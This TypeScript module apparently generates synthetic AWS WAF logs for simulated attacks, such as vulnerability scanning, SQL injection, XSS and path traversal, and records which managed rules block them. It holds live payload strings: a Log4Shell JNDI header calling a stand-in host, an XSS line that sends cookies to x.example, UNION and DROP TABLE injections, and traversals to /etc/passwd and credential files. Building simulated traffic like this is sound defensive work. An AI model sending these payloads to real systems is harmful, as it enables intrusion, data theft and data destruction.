/** Attacks that show in the request itself: scanners, injections, path traversal. */
import { ask, CHROME, type Episode, many, request } from './episode.ts'
import { acls, allowed, blockedByGroup, blockedByRule, countedByRule, type MatchDetail, managed } from './rules.ts'

const [front] = acls
const core = 'awswaf:managed:aws:core-rule-set'
const bad = 'awswaf:managed:aws:known-bad-inputs'
const sql = 'awswaf:managed:aws:sql-database'

const scanPaths = [
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/server-status',
  '/actuator/env',
  '/actuator/heapdump',
  '/wp-login.php',
  '/wp-content/plugins/revslider/temp/update_extract/',
  '/phpmyadmin/index.php',
  '/solr/admin/info/system',
  '/jenkins/script',
  '/manager/html',
  '/console/login/LoginForm.jsp',
  '/cgi-bin/luci/;stok=/locale',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/owa/auth/logon.aspx',
  '/api/v1/namespaces/default/secrets',
  '/druid/index.html',
  '/swagger-ui/index.html',
  '/graphql',
  '/.DS_Store',
  '/debug/pprof/',
  '/telescope/requests',
  '/xmlrpc.php',
  '/boaform/admin/formLogin',
]
const scanBlocked = [
  '/.env',
  '/.env.production',
  '/backup/shop.sql',
  '/config/database.yml.bak',
  '/web.config',
  '/.aws/credentials',
  '/id_rsa.pem',
  '/storage/logs/laravel.log',
]

/** A template scanner: a fixed list of paths from few addresses, some of them on Amazon's reputation list. */
export function scanner(seed: number): Episode {
  const clients = [
    ...many(
      ['ip-volume'],
      2,
      seed,
      11,
      'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
    ),
    ...many(['digitalocean-sg', 'digitalocean-us', 'hetzner'], 3, seed, 12, CHROME),
  ]
  return {
    name: 'scanner',
    hostile: true,
    from: 0.118,
    to: 0.152,
    share: 0.6,
    make(random) {
      const who = random.below(clients.length)
      const client = clients[who]!
      if (who === 0 && random.chance(0.7)) {
        const label = 'awswaf:managed:aws:amazon-ip-list:AWSManagedReconnaissanceList'
        return request(
          client,
          ask('GET', random.pick(scanPaths)),
          blockedByGroup(front, managed.REPUTATION, 'AWSManagedReconnaissanceList', label),
        )
      }
      if (random.chance(0.3)) {
        const what = ask('GET', random.pick(scanBlocked))
        return request(
          client,
          what,
          blockedByGroup(front, managed.COMMON, 'RestrictedExtensions_URIPATH', `${core}:RestrictedExtensions_URIPath`),
        )
      }
      if (random.chance(0.12)) {
        const header = ['x-api-version', `\${jndi:ldap://${random.hex(2)}.oast.example/a}`] as const
        return request(
          client,
          ask('GET', '/'),
          blockedByGroup(front, managed.KNOWN_BAD, 'Log4JRCE_HEADER', `${bad}:Log4JRCE_Header`),
          front,
          [header],
        )
      }
      if (random.chance(0.1))
        return request(
          client,
          ask('PROPFIND', '/'),
          blockedByGroup(front, managed.KNOWN_BAD, 'PROPFIND_METHOD', `${bad}:Propfind_Method`),
        )
      return request(
        client,
        ask(random.pick(['GET', 'GET', 'GET', 'POST']), random.pick(scanPaths)),
        allowed(front, { labels: ['awswaf:managed:aws:bot-control:signal:known_bot_data_center'] }),
      )
    },
  }
}

const sqliPayloads: readonly (readonly [payload: string, matched: readonly string[]])[] = [
  ["1' OR '1'='1", ["1'", 'OR', "'1'='1"]],
  ["1' UNION SELECT NULL,NULL,version()-- -", ['UNION', 'SELECT', 'NULL']],
  ['-1 UNION ALL SELECT username,password FROM members--', ['UNION', 'ALL', 'SELECT']],
  ["1' AND SLEEP(5)-- -", ["1'", 'AND', 'SLEEP(5)']],
  ["1'; DROP TABLE orders;--", [';', 'DROP', 'TABLE']],
  ["1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -", ['AND', 'extractvalue', '(']],
  ["1'/**/oR/**/1=1#", ["1'", 'oR', '1=1']],
]

/** sqlmap against search and product pages: managed rule, own rule, counted rule; a few evasions pass. */
export function sqli(seed: number): Episode {
  const clients = [
    ...many(['selectel', 'vnpt'], 2, seed, 21, 'sqlmap/1.9.10#stable (https://sqlmap.org)'),
    ...many(['tencent-hk'], 2, seed, 22, CHROME),
  ]
  return {
    name: 'sqli',
    hostile: true,
    from: 0.303,
    to: 0.334,
    share: 0.15,
    make(random) {
      const client = random.pick(clients)
      const [payload, matchedData] = random.pick(sqliPayloads)
      const inSearch = random.chance(0.6)
      const field = inSearch ? 'q' : 'id'
      const what = ask(
        'GET',
        inSearch ? '/search' : '/products/view',
        `${field}=${encodeURIComponent(payload)}&_=${random.below(1e6)}`,
      )
      const detail: MatchDetail = {
        conditionType: 'SQL_INJECTION',
        sensitivityLevel: random.chance(0.5) ? 'HIGH' : 'LOW',
        location: 'ALL_QUERY_ARGS',
        matchedData,
        matchedFieldName: field,
      }
      const labels = [`${sql}:SQLi_QueryArguments`]
      if (random.chance(0.62))
        return request(client, what, blockedByGroup(front, managed.SQLI, 'SQLi_QUERYARGUMENTS', labels[0]!, [detail]))
      if (random.chance(0.5))
        return request(
          client,
          what,
          blockedByRule(front, 'shop-sqli-strict', [{ ...detail, location: 'QUERY_STRING' }], []),
        )
      if (random.chance(0.5))
        return request(
          client,
          what,
          countedByRule(front, 'shop-sqli-watch', [detail], ['awswaf:123456789012:webacl:shop-front:sqli-watch']),
        )
      return request(client, what, allowed(front))
    },
  }
}

const xssPayloads = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=fetch("//x.example/"+document.cookie)>',
  'javascript:alert(1)//',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="jav&#x09;ascript:alert(1)">',
]

export function xss(seed: number): Episode {
  const clients = many(['rostelecom', 'claro-br', 'frantech'], 4, seed, 31, CHROME)
  return {
    name: 'xss',
    hostile: true,
    from: 0.455,
    to: 0.477,
    share: 0.09,
    make(random) {
      const client = random.pick(clients)
      const payload = random.pick(xssPayloads)
      if (random.chance(0.25)) {
        const detail: MatchDetail = {
          conditionType: 'XSS',
          location: 'HEADER',
          matchedData: ['<', 'script'],
          matchedFieldName: 'referer',
        }
        return request(
          client,
          ask('GET', '/reviews/10241'),
          blockedByRule(front, 'shop-xss-headers', [detail], []),
          front,
          [['referer', `https://www.haetae-shop.example/?${payload}`]],
        )
      }
      const detail: MatchDetail = { conditionType: 'XSS', location: 'ALL_QUERY_ARGS', matchedData: null }
      const what = ask('GET', '/search', `q=${encodeURIComponent(payload)}`)
      return request(
        client,
        what,
        blockedByGroup(
          front,
          managed.COMMON,
          'CrossSiteScripting_QUERYARGUMENTS',
          `${core}:CrossSiteScripting_QueryArguments`,
          [detail],
        ),
      )
    },
  }
}

const traversals = [
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/images/..%252f..%252f..%252fetc%252fpasswd',
  '/download/....//....//....//etc/passwd',
  '/static/%2e%2e/%2e%2e/%2e%2e/proc/self/environ',
  '/files/..\\..\\..\\windows\\win.ini',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
]

export function traversal(seed: number): Episode {
  const clients = many(['frantech', 'tor-exit'], 3, seed, 41, 'curl/8.16.0', { case: 'title' })
  return {
    name: 'traversal',
    hostile: true,
    from: 0.561,
    to: 0.579,
    share: 0.08,
    make(random) {
      const client = random.pick(clients)
      if (random.chance(0.35)) {
        const what = ask(
          'GET',
          '/download',
          `file=${random.pick(['../../../../etc/passwd', '..%2F..%2F..%2Fetc%2Fshadow', 'file:///etc/hosts'])}`,
        )
        return request(
          client,
          what,
          blockedByGroup(front, managed.COMMON, 'GenericLFI_QUERYARGUMENTS', `${core}:GenericLFI_QueryArguments`),
        )
      }
      const what = ask('GET', random.pick(traversals))
      if (random.chance(0.15)) return request(client, what, allowed(front))
      return request(
        client,
        what,
        blockedByGroup(front, managed.COMMON, 'GenericLFI_URIPATH', `${core}:GenericLFI_URIPath`),
      )
    },
  }
}

/** The noise every public address hears all day: one question each from all over. */
export function probes(seed: number): Episode {
  const clients = many(
    ['censys', 'hetzner', 'digitalocean-us', 'tencent-hk', 'alibaba-cn', 'ip-volume'],
    300,
    seed,
    81,
    'Mozilla/5.0 zgrab/0.x',
  )
  return {
    name: 'probes',
    hostile: true,
    from: 0,
    to: 1,
    share: 0.012,
    make(random) {
      const client = random.pick(clients)
      if (random.chance(0.4))
        return request(
          client,
          ask('GET', random.pick(scanBlocked)),
          blockedByGroup(front, managed.COMMON, 'RestrictedExtensions_URIPATH', `${core}:RestrictedExtensions_URIPath`),
        )
      if (random.chance(0.3))
        return request(
          client,
          ask('GET', random.pick(scanPaths)),
          blockedByGroup(front, managed.KNOWN_BAD, 'ExploitablePaths_URIPATH', `${bad}:ExploitablePaths_URIPath`),
        )
      return request(
        client,
        ask('GET', random.pick(['/', '/robots.txt', '/favicon.ico', '/.well-known/security.txt'])),
        allowed(front),
      )
    },
  }
}
